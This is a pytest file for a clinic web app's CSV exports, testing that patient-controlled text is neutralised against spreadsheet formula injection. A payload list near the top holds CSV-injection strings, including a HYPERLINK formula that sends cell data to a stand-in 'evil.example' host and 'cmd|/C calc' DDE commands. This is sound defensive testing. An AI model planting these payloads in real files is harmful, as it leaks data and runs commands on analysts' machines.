"""Every CSV Dorsi writes is safe to open in a spreadsheet and still reads as data.

Each endpoint is fed a payload the patient controls (their self-test notes, their browser's
User-Agent, their session comments) and its file is read back with pandas, the way a clinic's
analyst would read it.
"""

import io
import re
import uuid
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from django.utils import timezone

from assessments import services as assessment_services
from clinic.csv_writer import csv_bytes, csv_cell
from exercises import services as exercise_services
from tests.conftest import ROOT, project_sources

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open my video")'
PAYLOADS = [
    HYPERLINK,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def _read(content: bytes) -> pd.DataFrame:
    # dtype=str: what the file holds, character for character (no number guessing).
    return pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["+13125550100", "-2.5", "+4", "-0.75", "1e3", "-1.5E-2", "Anders", "a=b", "", "12 cm"],
)
def test_numbers_phone_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_a_file_reads_back_in_pandas_with_numbers_as_numbers_and_phones_as_phones():
    content = csv_bytes(
        ["phone", "delta_cm", "notes"],
        [["+13125550100", -2.5, HYPERLINK], ["+4915112345678", "1.9", "fine"]],
    )
    as_text = _read(content)
    assert list(as_text["phone"]) == ["+13125550100", "+4915112345678"]
    assert as_text["notes"][0] == "'" + HYPERLINK
    guessed = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert guessed["delta_cm"].dtype.kind == "f"
    assert list(guessed["delta_cm"]) == [-2.5, 1.9]
    assert list(guessed.columns) == ["phone", "delta_cm", "notes"]  # no byte-order mark left


def test_no_module_writes_csv_but_the_one_writer():
    """The class of fault goes away only if nothing else can write a cell unchecked."""
    allowed = ROOT / "clinic" / "csv_writer.py"
    offenders = [
        str(path.relative_to(ROOT))
        for path in project_sources()
        if path != allowed
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M)
    ]
    assert offenders == []


# --- Every CSV endpoint, with a payload the patient controls ----------------------------------


def test_the_knee_to_wall_csv_neutralises_a_patients_own_notes(client_as, patient):
    assessment_services.self_test_record(
        patient=patient,
        unit="cm",
        data={
            "measured_at": timezone.now(),
            "left_distance": "9.5",
            "right_distance": "11",
            "notes": HYPERLINK,
        },
    )
    response = client_as("therapist").get(f"/patients/{patient.pk}/knee-to-wall.csv")
    assert response.status_code == 200
    rows = _read(response.content)
    assert rows["notes"][0] == "'" + HYPERLINK
    numbers = pd.read_csv(io.BytesIO(response.content), encoding="utf-8-sig")
    assert list(numbers["left_cm"]) == [9.5]
    assert list(numbers["right_cm"]) == [11.0]


def test_the_audit_export_neutralises_a_user_agent_the_patient_chose(client_as, patient):
    saved = client_as("patient").post(
        "/me/self-test/",
        {
            "unit": "cm",
            "measured_at": timezone.localtime(timezone=patient.clinic.zone).strftime(
                "%Y-%m-%dT%H:%M"
            ),
            "left_distance": "9",
            "right_distance": "9",
        },
        HTTP_USER_AGENT=HYPERLINK,
    )
    assert saved.status_code == 302, saved.context["form"].errors
    response = client_as("clinic_admin").get("/audit/export.csv")
    assert response.status_code == 200
    rows = _read(b"".join(response.streaming_content))
    agents = set(rows["user_agent"])
    assert "'" + HYPERLINK in agents
    assert HYPERLINK not in agents
    assert not any(cell.startswith(("=", "+", "@")) for column in rows for cell in rows[column])


@pytest.mark.parametrize("who", ["patient", "therapist"])
def test_the_data_rights_zip_neutralises_text_and_keeps_phone_numbers(
    client_as, patient, prescribed, who
):
    patient.phone = "+13125550100"
    patient.save()
    exercise_services.session_log_record(
        patient=patient,
        version=prescribed,
        client_token=uuid.uuid4(),
        statuses={item.pk: "done" for item in prescribed.items.all()},
        comment=HYPERLINK,
    )
    url = "/me/export.zip" if who == "patient" else f"/patients/{patient.pk}/export.zip"
    response = client_as(who).get(url)
    assert response.status_code == 200, response
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        files = {
            Path(name).name: _read(archive.read(name))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    assert files["patient.csv"]["phone"][0] == "+13125550100"
    assert files["sessions.csv"]["comment"][0] == "'" + HYPERLINK
